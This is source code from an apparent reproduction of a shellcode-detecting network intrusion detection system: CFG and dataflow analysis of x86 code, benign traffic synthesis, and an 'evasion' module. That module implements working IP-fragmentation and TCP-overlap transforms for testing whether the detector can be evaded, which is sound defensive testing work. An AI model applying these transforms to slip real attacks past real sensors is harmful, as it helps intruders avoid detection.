    """CFG over a decoded frame; blocks are keyed by start address."""

    blocks: dict[int, BasicBlock]
    entry: int

    def block_at(self, address: int) -> BasicBlock | None:
        return self.blocks.get(address)

    def __len__(self) -> int:
        return len(self.blocks)


def _leaders(instructions: list[Instruction]) -> set[int]:
    """Addresses that start a basic block."""
    if not instructions:
        return set()
    addresses = {ins.address for ins in instructions}
    leaders = {instructions[0].address}
    for ins in instructions:
        if ins.is_branch:
            target = ins.target()
            if target is not None and target in addresses:
                leaders.add(target)
            leaders.add(ins.end)  # fall-through successor starts a block
    return leaders


def build_cfg(instructions: list[Instruction]) -> Cfg:
    """Partition a decoded instruction list into basic blocks.

    Branch targets that land outside the frame (e.g. into the sled or the
    return-address block) simply become missing successors; the matcher
    treats them as path ends.
    """
    if not instructions:
        return Cfg(blocks={}, entry=0)
    leaders = _leaders(instructions)
    blocks: dict[int, BasicBlock] = {}
    current: BasicBlock | None = None
    for ins in instructions:
        if ins.address in leaders or current is None:
            current = BasicBlock(start=ins.address)
            blocks[ins.address] = current
        current.instructions.append(ins)
        if ins.is_branch or ins.is_terminator:
            current = None

    addresses = set(blocks)
    all_addrs = {ins.address for ins in instructions}
    for block in blocks.values():
        term = block.terminator
        if term.mnemonic in ("ret", "retn", "hlt"):
            continue
        if term.is_branch:
            target = term.target()
            if target is not None and target in all_addrs:
                # Branching into the middle of a block is possible in
                # adversarial code; snap to the containing block start.
                block.successors.append(target if target in addresses
                                        else _containing_block(blocks, target))
            # Conditional branches and calls can also continue at the next
            # instruction (calls: after the callee returns).
            if (term.is_conditional or term.mnemonic == "call") and term.end in addresses:
                block.successors.append(term.end)
        else:
            if term.end in addresses:
                block.successors.append(term.end)
    return Cfg(blocks=blocks, entry=instructions[0].address)


def _containing_block(blocks: dict[int, BasicBlock], address: int) -> int:
    for start, block in blocks.items():
        if start <= address < block.end:
            return start
    return address


def linearize(cfg: Cfg, entry: int | None = None) -> list[Instruction]:
    """Serialize blocks in (approximate) execution order.

    Policy: follow unconditional jumps; at conditional branches prefer the
    fall-through edge, falling back to the taken edge when fall-through is
    exhausted; each block is emitted once; when the path ends, resume at the
    lowest-address unvisited block so junk-separated islands still appear in
    the output.
    """
    if not cfg.blocks:
        return []
    out: list[Instruction] = []
    visited: set[int] = set()
    start = entry if entry is not None else cfg.entry
    pending = sorted(cfg.blocks)

    def next_unvisited() -> int | None:
        for addr in pending:
            if addr not in visited:
                return addr
        return None

    current: int | None = start if start in cfg.blocks else next_unvisited()
    while current is not None:
        block = cfg.blocks[current]
        visited.add(current)
        out.extend(block.instructions)
        term = block.terminator
        succ: int | None = None
        if term.mnemonic in ("jmp", "call"):
            # Follow the transfer: for calls this is the getpc/subroutine
            # edge — shellcode getpc stubs never "return" in the normal
            # sense, so the callee is the true execution successor.
            target = term.target()
            if target is not None and target in cfg.blocks and target not in visited:
                succ = target
            elif term.mnemonic == "call":
                for cand in block.successors:
                    if cand not in visited:
                        succ = cand
                        break
        else:
            # Prefer fall-through; then the taken edge.
            for cand in block.successors:
                if cand == term.end and cand not in visited:
                    succ = cand
                    break
            if succ is None:
                for cand in block.successors:
                    if cand not in visited:
                        succ = cand
                        break
        current = succ if succ is not None else next_unvisited()
    return out

"""Intermediate representation: lifting, CFG, dataflow.

The IR generator stage of the NIDS (Figure 3 of the paper): x86
instructions are lifted to normalized semantic statements, re-serialized
along the execution order, and annotated with propagated constants before
template matching.
"""

from .ops import (
    Assign, BinOp, Branch, Compare, Const, Exchange, Expr, Interrupt, Load,
    MemRef, Nop, Pop, Push, Reg, Stmt, Store, StringWrite, Unhandled,
    UnknownExpr, UnOp,
)
from .lift import lift, lift_instruction
from .cfg import BasicBlock, Cfg, build_cfg, linearize
from .dataflow import ConstEnv, eval_expr, propagate

__all__ = [
    "Assign", "BinOp", "Branch", "Compare", "Const", "Exchange", "Expr",
    "Interrupt", "Load", "MemRef", "Nop", "Pop", "Push", "Reg", "Stmt",
    "Store", "StringWrite", "Unhandled", "UnknownExpr", "UnOp",
    "lift", "lift_instruction",
    "BasicBlock", "Cfg", "build_cfg", "linearize",
    "ConstEnv", "eval_expr", "propagate",
]

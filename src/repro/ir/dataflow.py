"""Forward dataflow over a linearized IR trace: constant propagation and an
abstract stack.

This pass is the second mechanism behind semantic matching (with lift-time
normalization): it resolves obfuscated constants.  ``mov ebx, 31h; add ebx,
64h`` leaves the environment knowing ``ebx = 0x95``, so a later ``xor byte
ptr [eax], bl`` matches a template keyed on the symbolic constant ``KEY``.
The abstract stack catches the equally common ``push 0xb; pop eax`` idiom.

The analysis is deliberately optimistic along a single linearized path (no
join points): shellcode decoders keep their key and pointer setup loop-
invariant, and the paper's false-positive experiment (§5.4) bounds the cost
of the approximation empirically.
"""

from __future__ import annotations

from .ops import (
    Assign,
    BinOp,
    Branch,
    Const,
    Exchange,
    Expr,
    Interrupt,
    Load,
    Pop,
    Push,
    Reg,
    Stmt,
    StringWrite,
    UnknownExpr,
    UnOp,
    Unhandled,
    mask_for,
)

__all__ = ["ConstEnv", "propagate", "eval_expr"]

_U32 = 0xFFFFFFFF
_FAMILIES = ("eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi")


class ConstEnv:
    """Known 32-bit register constants plus an abstract constant stack."""

    __slots__ = ("regs", "stack")

    def __init__(self) -> None:
        self.regs: dict[str, int] = {}
        self.stack: list[int | None] = []

    def copy(self) -> "ConstEnv":
        env = ConstEnv()
        env.regs = dict(self.regs)
        env.stack = list(self.stack)
        return env

    def get(self, family: str, size: int = 4) -> int | None:
        value = self.regs.get(family)
        if value is None:
            return None
        return value & mask_for(size)

    def set(self, family: str, value: int | None, size: int = 4,
            high: bool = False) -> None:
        if value is None:
            self.regs.pop(family, None)
            return
        if size == 4:
            self.regs[family] = value & _U32
            return
        old = self.regs.get(family)
        if old is None:
            # Partial write to an unknown register: width-limited knowledge
            # is not representable, drop it.
            self.regs.pop(family, None)
            return
        if high:
            self.regs[family] = (old & ~0xFF00) | ((value & 0xFF) << 8)
        elif size == 1:
            self.regs[family] = (old & ~0xFF) | (value & 0xFF)
        else:  # size == 2
            self.regs[family] = (old & ~0xFFFF) | (value & 0xFFFF)

    def invalidate_stack(self) -> None:
        self.stack.clear()

    def __repr__(self) -> str:
        known = {k: f"{v:#x}" for k, v in sorted(self.regs.items())}
        return f"ConstEnv({known}, stack={self.stack})"


def eval_expr(expr: Expr, env: ConstEnv) -> int | None:
    """Evaluate an expression to a constant under ``env``, or ``None``."""
    if isinstance(expr, Const):
        return expr.value
    if isinstance(expr, Reg):
        return env.get(expr.family, expr.size)
    if isinstance(expr, Load):
        return None  # memory contents are not tracked
    if isinstance(expr, UnknownExpr):
        return None
    if isinstance(expr, UnOp):
        value = eval_expr(expr.operand, env)
        if value is None:
            return None
        if expr.op == "not":
            return (~value) & _U32
        if expr.op == "neg":
            return (-value) & _U32
        if expr.op == "bswap":
            return int.from_bytes(value.to_bytes(4, "little"), "big")
        return None
    if isinstance(expr, BinOp):
        lhs = eval_expr(expr.lhs, env)
        rhs = eval_expr(expr.rhs, env)
        if lhs is None or rhs is None:
            return None
        op = expr.op
        if op == "add":
            return (lhs + rhs) & _U32
        if op == "sub":
            return (lhs - rhs) & _U32
        if op == "xor":
            return lhs ^ rhs
        if op == "or":
            return lhs | rhs
        if op == "and":
            return lhs & rhs
        if op == "mul":
            return (lhs * rhs) & _U32
        if op == "shl":
            return (lhs << (rhs & 31)) & _U32
        if op == "shr":
            return (lhs & _U32) >> (rhs & 31)
        if op == "sar":
            signed = lhs - (1 << 32) if lhs & 0x80000000 else lhs
            return (signed >> (rhs & 31)) & _U32
        if op == "rol":
            r = rhs & 31
            return ((lhs << r) | (lhs >> (32 - r))) & _U32 if r else lhs
        if op == "ror":
            r = rhs & 31
            return ((lhs >> r) | (lhs << (32 - r))) & _U32 if r else lhs
        if op == "div":
            return None  # width/sign subtleties; not needed for matching
    return None


def propagate(stmts: list[Stmt]) -> list[ConstEnv]:
    """Run constant propagation; returns the environment *before* each
    statement (snapshots share no state with the running environment)."""
    env = ConstEnv()
    before: list[ConstEnv] = []
    for stmt in stmts:
        before.append(env.copy())
        _transfer(stmt, env)
    return before


def _transfer(stmt: Stmt, env: ConstEnv) -> None:
    if isinstance(stmt, Assign):
        value = eval_expr(stmt.src, env)
        if stmt.dst == "esp":
            env.invalidate_stack()
        env.set(stmt.dst, value, stmt.size, high=stmt.high)
        return
    if isinstance(stmt, Exchange):
        a, b = env.get(stmt.a), env.get(stmt.b)
        env.set(stmt.a, b)
        env.set(stmt.b, a)
        return
    if isinstance(stmt, Push):
        env.stack.append(eval_expr(stmt.src, env))
        return
    if isinstance(stmt, Pop):
        value = env.stack.pop() if env.stack else None
        env.set(stmt.dst, value, stmt.size)
        return
    if isinstance(stmt, Branch):
        if stmt.kind in ("loop", "loope", "loopne"):
            ecx = env.get("ecx")
            env.set("ecx", (ecx - 1) & _U32 if ecx is not None else None)
        elif stmt.kind == "call":
            for family in ("eax", "ecx", "edx"):
                env.set(family, None)
            env.invalidate_stack()
        return
    if isinstance(stmt, Interrupt):
        env.set("eax", None)  # syscall return value
        return
    if isinstance(stmt, StringWrite):
        step = stmt.size
        if stmt.rep:
            count = env.get("ecx")
            step = stmt.size * count if count is not None else None
            env.set("ecx", 0 if count is not None else None)
        edi = env.get("edi")
        env.set("edi", (edi + step) & _U32
                if edi is not None and step is not None else None)
        if stmt.op == "movs":
            esi = env.get("esi")
            env.set("esi", (esi + step) & _U32
                    if esi is not None and step is not None else None)
        return
    if isinstance(stmt, Unhandled):
        for family in _FAMILIES:
            env.set(family, None)
        env.invalidate_stack()
        return
    # Store/Compare/Nop: no register effects tracked.

"""Attacker-side evasion transforms: the gauntlet's offense.

Ptacek & Newsham (1998) catalogued how a NIDS that reconstructs traffic
differently from the end host can be blinded: overlapping or tiny IP
fragments, out-of-order delivery, duplicated last fragments, TCP segment
overlap and retransmission ambiguity, and interleaving unrelated flows so
per-flow state is stressed.  Each transform here rewrites a packet trace
the way such an attacker would — while keeping the byte stream a
first-writer-wins end host reconstructs unchanged — so the differential
harness (``tests/nids/test_evasion_gauntlet.py``,
``benchmarks/bench_evasion.py``) can assert the sensor's alert set is
*invariant* under every transform.  A transform that changes the alert
set has found a reassembly hole.

Transforms never mutate their input packets; every derived packet is a
fresh object.  All randomness comes from the caller-supplied seed, so an
evaded trace is exactly reproducible.
"""

from __future__ import annotations

import random
from collections import deque
from dataclasses import dataclass, replace
from typing import Callable, Iterable, Sequence

from ..net.defrag import IpDefragmenter
from ..net.layers import Ipv4, Tcp
from ..net.packet import Packet

__all__ = ["EvasionTransform", "EVASIONS", "apply_evasion", "evasion_names"]

_MF = 0x1


@dataclass(frozen=True)
class EvasionTransform:
    """One named trace-rewriting attack."""

    name: str
    description: str
    apply: Callable[[Sequence[Packet], random.Random], list[Packet]]


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------


def _raw_ip_payload(pkt: Packet) -> bytes:
    """The packet's full IP payload (transport header re-encoded)."""
    return IpDefragmenter._raw_ip_payload(pkt)


def _fragment(pkt: Packet, offset: int, data: bytes, last: bool,
              ident: int) -> Packet:
    ip = Ipv4(src=pkt.ip.src, dst=pkt.ip.dst, proto=pkt.ip.proto,
              ttl=pkt.ip.ttl, ident=ident,
              flags=0 if last else _MF, frag_offset=offset // 8)
    return Packet(eth=pkt.eth, ip=ip, payload=data, timestamp=pkt.timestamp)


def _overlapping_fragments(pkt: Packet, ident: int, size: int = 128,
                           stride: int = 64) -> list[Packet]:
    """Fragments of ``size`` bytes every ``stride`` bytes (stride < size
    means each fragment re-sends the tail of its predecessor — truthful
    bytes, so any first-writer-wins reconstruction is unaffected).

    A payload that fits one fragment is returned as the original packet:
    a lone MF=0/offset-0 "fragment" is not a fragment at all, and
    rebuilding it would discard the parsed transport layer."""
    data = _raw_ip_payload(pkt)
    if len(data) <= size:
        return [pkt]
    frags: list[Packet] = []
    offset = 0
    while True:
        chunk = data[offset:offset + size]
        last = offset + size >= len(data)
        frags.append(_fragment(pkt, offset, chunk, last, ident))
        if last:
            return frags
        offset += stride


def _plain_fragments(pkt: Packet, ident: int, size: int = 64) -> list[Packet]:
    return _overlapping_fragments(pkt, ident, size=size, stride=size)


def _fragmentable(pkt: Packet) -> bool:
    """Only whole, payload-bearing IP packets are worth fragmenting."""
    return (pkt.ip is not None and bool(pkt.payload)
            and pkt.ip.frag_offset == 0 and not pkt.ip.flags & _MF)


def _per_datagram(packets: Sequence[Packet],
                  split: Callable[[Packet, int], list[Packet]]) -> list[Packet]:
    """Apply ``split(pkt, ident)`` to every fragmentable packet, handing
    each datagram a distinct IP ident so reassembly buffers never merge
    fragments of different packets from the same flow."""
    out: list[Packet] = []
    ident = 0x1000
    for pkt in packets:
        if _fragmentable(pkt):
            out.extend(split(pkt, ident))
            ident = (ident + 1) & 0xFFFF or 0x1000
        else:
            out.append(pkt)
    return out


def _garbage(rng: random.Random, n: int) -> bytes:
    return rng.randbytes(n)


def _clone_tcp_segment(pkt: Packet, seq: int, payload: bytes) -> Packet:
    tcp = replace(pkt.l4, seq=seq & 0xFFFFFFFF)
    return Packet(eth=pkt.eth, ip=replace(pkt.ip), l4=tcp, payload=payload,
                  timestamp=pkt.timestamp)


# ---------------------------------------------------------------------------
# IP fragmentation attacks
# ---------------------------------------------------------------------------


def _tiny_fragments(packets: Sequence[Packet],
                    rng: random.Random) -> list[Packet]:
    return _per_datagram(packets, lambda p, i: _plain_fragments(p, i, size=8))


def _fragment_reorder(packets: Sequence[Packet],
                      rng: random.Random) -> list[Packet]:
    def split(pkt: Packet, ident: int) -> list[Packet]:
        frags = _plain_fragments(pkt, ident, size=64)
        rng.shuffle(frags)
        return frags

    return _per_datagram(packets, split)


def _fragment_overlap(packets: Sequence[Packet],
                      rng: random.Random) -> list[Packet]:
    """In-order overlapping fragments, with the penultimate fragment both
    retransmitted and then forged with garbage bytes before the final
    fragment completes the datagram.  Every disputed byte arrives after
    the truthful copy, so first-writer-wins must discard both duplicates
    whole — while the reassembly buffer is still live."""
    def split(pkt: Packet, ident: int) -> list[Packet]:
        frags = _overlapping_fragments(pkt, ident)
        if len(frags) < 2:
            return frags
        penult = frags[-2]
        forged = _fragment(pkt, penult.ip.frag_offset * 8,
                           _garbage(rng, len(penult.payload)),
                           last=False, ident=ident)
        return frags[:-1] + [penult, forged, frags[-1]]

    return _per_datagram(packets, split)


def _fragment_overlap_reorder(packets: Sequence[Packet],
                              rng: random.Random) -> list[Packet]:
    """Overlapping fragments delivered in shuffled order: the teardrop
    shape, where a fragment can arrive *before* a chunk it overlaps."""
    def split(pkt: Packet, ident: int) -> list[Packet]:
        frags = _overlapping_fragments(pkt, ident)
        rng.shuffle(frags)
        return frags

    return _per_datagram(packets, split)


def _fragment_dup_last(packets: Sequence[Packet],
                       rng: random.Random) -> list[Packet]:
    """A wide penultimate fragment already covers the final fragment's
    range, so the MF=0 fragment is fully trimmed on arrival — it must
    still establish the datagram length.  A duplicated middle fragment
    rides along as a plain retransmission."""
    def split(pkt: Packet, ident: int) -> list[Packet]:
        data = _raw_ip_payload(pkt)
        frags = _plain_fragments(pkt, ident, size=64)
        if len(frags) < 2:
            return frags
        last = frags[-1]
        last_off = last.ip.frag_offset * 8
        wide = _fragment(pkt, last_off - 64, data[last_off - 64:],
                         last=False, ident=ident)
        dup = frags[(len(frags) - 1) // 2]  # never the MF=0 last fragment
        return frags[:-1] + [dup, wide, last]

    return _per_datagram(packets, split)


# ---------------------------------------------------------------------------
# TCP stream attacks
# ---------------------------------------------------------------------------


def _per_segment(packets: Sequence[Packet],
                 split: Callable[[Packet], list[Packet]]) -> list[Packet]:
    out: list[Packet] = []
    for pkt in packets:
        if pkt.is_tcp and pkt.payload and _fragmentable(pkt):
            out.extend(split(pkt))
        else:
            out.append(pkt)
    return out


def _tcp_tiny_segments(packets: Sequence[Packet],
                       rng: random.Random) -> list[Packet]:
    def split(pkt: Packet) -> list[Packet]:
        tcp: Tcp = pkt.l4
        return [_clone_tcp_segment(pkt, tcp.seq + off,
                                   pkt.payload[off:off + 24])
                for off in range(0, len(pkt.payload), 24)]

    return _per_segment(packets, split)


def _tcp_overlap_retransmit(packets: Sequence[Packet],
                            rng: random.Random) -> list[Packet]:
    """Per data segment: second half first, then the whole segment (its
    tail now overlaps already-buffered bytes), then a same-seq garbage
    retransmission that first-writer-wins must reject wholesale."""
    def split(pkt: Packet) -> list[Packet]:
        tcp: Tcp = pkt.l4
        n = len(pkt.payload)
        half = max(1, n // 2)
        out = []
        if half < n:
            out.append(_clone_tcp_segment(pkt, tcp.seq + half,
                                          pkt.payload[half:]))
        out.append(_clone_tcp_segment(pkt, tcp.seq, pkt.payload))
        out.append(_clone_tcp_segment(pkt, tcp.seq, _garbage(rng, n)))
        return out

    return _per_segment(packets, split)


# ---------------------------------------------------------------------------
# cross-flow attacks
# ---------------------------------------------------------------------------


def _interleave_flows(packets: Sequence[Packet],
                      rng: random.Random) -> list[Packet]:
    """Round-robin packets across senders.  Per-sender order (which the
    classifier's decisions depend on) is preserved; everything else about
    delivery order is scrambled, so per-flow state is touched maximally
    interleaved instead of in convenient bursts.

    The original timestamps are reassigned in delivery order: a capture
    is monotone in time, and timer-driven state (fragment-buffer idle
    timeouts) must see the interleaving as a rescheduling of the same
    packets on the wire, not as wild clock jumps — composing this after
    a fragmentation transform would otherwise time out every in-flight
    reassembly buffer."""
    queues: dict[str, deque] = {}
    for pkt in packets:
        queues.setdefault(pkt.src or "", deque()).append(pkt)
    out: list[Packet] = []
    order = deque(queues.values())
    while order:
        q = order.popleft()
        out.append(q.popleft())
        if q:
            order.append(q)
    times = sorted(p.timestamp for p in out)
    return [replace(p, timestamp=t) for p, t in zip(out, times)]


# ---------------------------------------------------------------------------
# registry
# ---------------------------------------------------------------------------


def _registry(transforms: Iterable[EvasionTransform]) -> dict[str, EvasionTransform]:
    return {t.name: t for t in transforms}


EVASIONS: dict[str, EvasionTransform] = _registry([
    EvasionTransform(
        "tiny-fragments",
        "split every datagram into 8-byte IP fragments",
        _tiny_fragments),
    EvasionTransform(
        "fragment-reorder",
        "64-byte IP fragments delivered in shuffled order",
        _fragment_reorder),
    EvasionTransform(
        "fragment-overlap",
        "overlapping fragments in order + retransmitted last + garbage dup",
        _fragment_overlap),
    EvasionTransform(
        "fragment-overlap-reorder",
        "overlapping fragments shuffled (teardrop-style arrivals)",
        _fragment_overlap_reorder),
    EvasionTransform(
        "fragment-dup-last",
        "last fragment fully covered by a wide predecessor + dup middle",
        _fragment_dup_last),
    EvasionTransform(
        "tcp-tiny-segments",
        "re-segment TCP payloads into 24-byte segments",
        _tcp_tiny_segments),
    EvasionTransform(
        "tcp-overlap-retransmit",
        "out-of-order halves + full overlap + same-seq garbage retransmit",
        _tcp_overlap_retransmit),
    EvasionTransform(
        "interleave-flows",
        "round-robin packets across senders (per-sender order kept)",
        _interleave_flows),
])


def evasion_names() -> list[str]:
    return sorted(EVASIONS)


def apply_evasion(name: str, packets: Sequence[Packet],
                  seed: int = 0) -> list[Packet]:
    """Rewrite ``packets`` through the named transform, deterministically."""
    try:
        transform = EVASIONS[name]
    except KeyError:
        raise ValueError(f"unknown evasion transform {name!r}; expected one "
                         f"of {evasion_names()}") from None
    return transform.apply(packets, random.Random(seed))

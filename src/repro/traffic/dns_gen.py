"""Benign DNS query/response synthesis (wire-format UDP payloads)."""

from __future__ import annotations

import random
import struct

__all__ = ["DnsTrafficModel", "encode_qname"]

_LABELS = ["www", "mail", "ns1", "ns2", "ftp", "smtp", "web", "proxy",
           "cache", "mirror"]
_DOMAINS = ["example.com", "campus.edu", "example.org", "corp.example",
            "example.net"]


def encode_qname(name: str) -> bytes:
    """DNS name encoding: length-prefixed labels, NUL-terminated."""
    out = bytearray()
    for label in name.split("."):
        raw = label.encode("ascii")
        if not 0 < len(raw) < 64:
            raise ValueError(f"bad DNS label: {label!r}")
        out.append(len(raw))
        out += raw
    out.append(0)
    return bytes(out)


class DnsTrafficModel:
    """Generates matched (query, response) payload pairs."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = random.Random(seed)

    def _name(self) -> str:
        return f"{self.rng.choice(_LABELS)}.{self.rng.choice(_DOMAINS)}"

    def query(self) -> tuple[bytes, bytes]:
        """Returns (query payload, response payload) for one lookup."""
        rng = self.rng
        txid = rng.randrange(1 << 16)
        qname = encode_qname(self._name())
        qtype = rng.choice((1, 1, 1, 15, 28))  # A, MX, AAAA
        question = qname + struct.pack(">HH", qtype, 1)
        query = struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + question
        # Response: same question + one A answer.
        addr = bytes(rng.randrange(1, 255) for _ in range(4))
        answer = (b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 3600, 4) + addr)
        response = (struct.pack(">HHHHHH", txid, 0x8180, 1, 1, 0, 0)
                    + question + answer)
        return query, response

"""Benign traffic mixes: full conversations over the software wire.

:class:`BenignMixGenerator` emits protocol-correct conversations (HTTP,
DNS, SMTP, ICMP) between a pool of client and server addresses.  All flows
are benign by construction — the generators in this package never emit
decoder loops, shell spawns, or CRII vectors — which gives the §5.4
false-positive experiment its ground truth.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..net.inet import Ipv4Network, int_to_ip
from ..net.packet import Packet, icmp_packet, udp_packet
from ..net.wire import Host, Wire
from .dns_gen import DnsTrafficModel
from .http_gen import HttpTrafficModel
from .smtp_gen import SmtpTrafficModel

__all__ = ["BenignMixGenerator", "MixStats"]


@dataclass
class MixStats:
    """What a generation run produced."""

    conversations: int = 0
    packets: int = 0
    payload_bytes: int = 0
    by_protocol: dict | None = None

    def __post_init__(self) -> None:
        if self.by_protocol is None:
            self.by_protocol = {}


class BenignMixGenerator:
    """Generates a benign traffic mix onto a wire (or a packet list)."""

    def __init__(
        self,
        seed: int = 0,
        client_net: str = "192.168.0.0/22",
        server_net: str = "10.10.0.0/24",
        start_time: float = 0.0,
        mean_gap: float = 0.02,
    ) -> None:
        self.rng = random.Random(seed)
        self.clients = Ipv4Network.parse(client_net)
        self.servers = Ipv4Network.parse(server_net)
        self.http = HttpTrafficModel(seed=seed ^ 0x1111)
        self.dns = DnsTrafficModel(seed=seed ^ 0x2222)
        self.smtp = SmtpTrafficModel(seed=seed ^ 0x3333)
        self.start_time = start_time
        self.mean_gap = mean_gap
        self.stats = MixStats()

    def _client(self) -> str:
        return int_to_ip(self.clients.host(self.rng.randrange(2, self.clients.num_addresses - 2)))

    def _server(self) -> str:
        return int_to_ip(self.servers.host(self.rng.randrange(2, self.servers.num_addresses - 2)))

    # -- conversation emitters ----------------------------------------------

    def conversation(self, wire: Wire) -> None:
        """Emit one conversation of a randomly chosen protocol."""
        roll = self.rng.random()
        if roll < 0.70:
            self._http(wire)
        elif roll < 0.85:
            self._dns(wire)
        elif roll < 0.95:
            self._smtp(wire)
        else:
            self._icmp(wire)
        self.stats.conversations += 1
        wire.clock += self.rng.expovariate(1.0 / self.mean_gap)

    def _http(self, wire: Wire) -> None:
        client = Host(ip=self._client(), wire=wire)
        session = client.open_tcp(self._server(), 80)
        n_requests = self.rng.randrange(1, 4)
        for _ in range(n_requests):
            request = self.http.request()
            session.send(request)
            session.reply(self.http.response())
            self.stats.payload_bytes += len(request)
        session.close()
        self._count("http")

    def _dns(self, wire: Wire) -> None:
        query, response = self.dns.query()
        client, server = self._client(), self._server()
        sport = 1024 + self.rng.randrange(60000)
        wire.transmit(udp_packet(client, server, sport, 53, query))
        wire.transmit(udp_packet(server, client, 53, sport, response))
        self.stats.payload_bytes += len(query) + len(response)
        self._count("dns")

    def _smtp(self, wire: Wire) -> None:
        client = Host(ip=self._client(), wire=wire)
        session = client.open_tcp(self._server(), 25)
        for direction, payload in self.smtp.session():
            if direction == "c":
                session.send(payload)
            else:
                session.reply(payload)
            self.stats.payload_bytes += len(payload)
        session.close()
        self._count("smtp")

    def _icmp(self, wire: Wire) -> None:
        client, server = self._client(), self._server()
        data = bytes(range(0x20, 0x38))
        wire.transmit(icmp_packet(client, server, type=8, payload=data))
        wire.transmit(icmp_packet(server, client, type=0, payload=data))
        self._count("icmp")

    def _count(self, proto: str) -> None:
        self.stats.by_protocol[proto] = self.stats.by_protocol.get(proto, 0) + 1

    # -- bulk helpers -----------------------------------------------------------

    def generate_packets(self, conversations: int) -> list[Packet]:
        """Generate ``conversations`` conversations into a packet list."""
        packets: list[Packet] = []
        wire = Wire(start_time=self.start_time)
        wire.attach(packets.append)
        for _ in range(conversations):
            self.conversation(wire)
        self.stats.packets += len(packets)
        return packets

    def generate_bytes(self, payload_bytes: int) -> list[Packet]:
        """Generate conversations until ~``payload_bytes`` of application
        payload has been produced (the §5.4 '566MB month' scaling knob)."""
        packets: list[Packet] = []
        wire = Wire(start_time=self.start_time)
        wire.attach(packets.append)
        target = self.stats.payload_bytes + payload_bytes
        while self.stats.payload_bytes < target:
            self.conversation(wire)
        self.stats.packets += len(packets)
        return packets

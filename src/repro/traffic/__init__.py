"""Benign traffic and evaluation trace synthesis."""

from .http_gen import HttpTrafficModel
from .dns_gen import DnsTrafficModel, encode_qname
from .smtp_gen import SmtpTrafficModel
from .mix import BenignMixGenerator, MixStats
from .radiation import RadiationGenerator
from .evasion import EVASIONS, EvasionTransform, apply_evasion, evasion_names
from .traces import (
    LabeledTrace, TABLE3_INSTANCE_COUNTS, build_table3_trace, month_of_traffic,
)

__all__ = [
    "HttpTrafficModel", "DnsTrafficModel", "encode_qname", "SmtpTrafficModel",
    "BenignMixGenerator", "MixStats",
    "RadiationGenerator",
    "EVASIONS", "EvasionTransform", "apply_evasion", "evasion_names",
    "LabeledTrace", "TABLE3_INSTANCE_COUNTS", "build_table3_trace",
    "month_of_traffic",
]

"""Benign SMTP session synthesis, including base64 attachments.

Base64 attachment bodies matter for the false-positive experiment: they
are long, high-ish-entropy, and occasionally decode to a few valid x86
instructions — the extraction thresholds have to keep them away from the
semantic analyzer (or the analyzer has to stay quiet on them)."""

from __future__ import annotations

import base64
import random

__all__ = ["SmtpTrafficModel"]

_USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "admin", "info"]
_DOMAINS = ["example.com", "campus.edu", "example.org"]
_SUBJECTS = ["meeting notes", "weekly report", "re: schedule", "lunch?",
             "budget draft", "paper review", "photos from trip"]
_WORDS = ("please find attached the latest draft for your review thanks "
          "regards see you at the meeting tomorrow project deadline "
          "updated numbers attached let me know if anything is missing").split()


class SmtpTrafficModel:
    """Generates complete SMTP command/data exchanges."""

    def __init__(self, seed: int = 0) -> None:
        self.rng = random.Random(seed)

    def session(self) -> list[tuple[str, bytes]]:
        """One SMTP conversation as (direction, payload) pairs; direction is
        "c" (client) or "s" (server)."""
        rng = self.rng
        sender = f"{rng.choice(_USERS)}@{rng.choice(_DOMAINS)}"
        rcpt = f"{rng.choice(_USERS)}@{rng.choice(_DOMAINS)}"
        exchanges: list[tuple[str, bytes]] = [
            ("s", b"220 mail.example.com ESMTP Sendmail 8.12.8\r\n"),
            ("c", b"HELO client.example.net\r\n"),
            ("s", b"250 mail.example.com Hello\r\n"),
            ("c", f"MAIL FROM:<{sender}>\r\n".encode()),
            ("s", b"250 2.1.0 Sender ok\r\n"),
            ("c", f"RCPT TO:<{rcpt}>\r\n".encode()),
            ("s", b"250 2.1.5 Recipient ok\r\n"),
            ("c", b"DATA\r\n"),
            ("s", b"354 Enter mail\r\n"),
            ("c", self._message(sender, rcpt)),
            ("s", b"250 2.0.0 Message accepted\r\n"),
            ("c", b"QUIT\r\n"),
            ("s", b"221 2.0.0 closing connection\r\n"),
        ]
        return exchanges

    def _message(self, sender: str, rcpt: str) -> bytes:
        rng = self.rng
        subject = rng.choice(_SUBJECTS)
        body = " ".join(rng.choice(_WORDS) for _ in range(rng.randrange(30, 120)))
        msg = (f"From: {sender}\r\nTo: {rcpt}\r\nSubject: {subject}\r\n")
        if rng.random() < 0.4:
            blob = rng.randbytes(rng.randrange(512, 4096))
            encoded = base64.encodebytes(blob).decode().replace("\n", "\r\n")
            msg += (
                "MIME-Version: 1.0\r\n"
                'Content-Type: multipart/mixed; boundary="----=_partbound"\r\n'
                "\r\n------=_partbound\r\n"
                "Content-Type: text/plain\r\n\r\n" + body +
                "\r\n------=_partbound\r\n"
                "Content-Type: application/octet-stream\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\n" + encoded +
                "\r\n------=_partbound--\r\n"
            )
        else:
            msg += "\r\n" + body + "\r\n"
        return msg.encode() + b".\r\n"

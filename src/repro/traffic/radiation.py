"""Internet background radiation synthesis (Pang et al., IMC'04 — the
paper's reference [15]).

Production networks see a constant drizzle of unsolicited traffic even
with zero compromise: backscatter from spoofed-source floods elsewhere,
residual probes from half-dead worms, and plain misconfiguration.  This
is the traffic the classifier lives in — dark-space counting must flag
real scanners without drowning the analyzer in radiation noise.

Components modelled (following the IMC'04 taxonomy):

- **backscatter** — SYN-ACK / RST replies arriving for connections we
  never opened (our addresses were spoofed as flood sources);
- **worm residue** — old worm probes (port 80/445/1434) from a churning
  population of sources, a few packets each;
- **misconfiguration** — repeated, low-rate traffic to one wrong address
  (a stale DNS entry, a typo'd NTP server).
"""

from __future__ import annotations

import random

from ..net.layers import TCP_ACK, TCP_RST, TCP_SYN
from ..net.packet import Packet, tcp_packet, udp_packet

__all__ = ["RadiationGenerator"]


class RadiationGenerator:
    """Generates background-radiation packets aimed at a monitored net."""

    def __init__(self, seed: int = 0, monitored_net: str = "10.10.0.",
                 dark_octets: tuple[int, int] = (64, 250)) -> None:
        self.rng = random.Random(seed)
        self.monitored_net = monitored_net
        #: host-octet range considered unused in the monitored /24
        self.dark_octets = dark_octets

    def _monitored_addr(self, dark: bool) -> str:
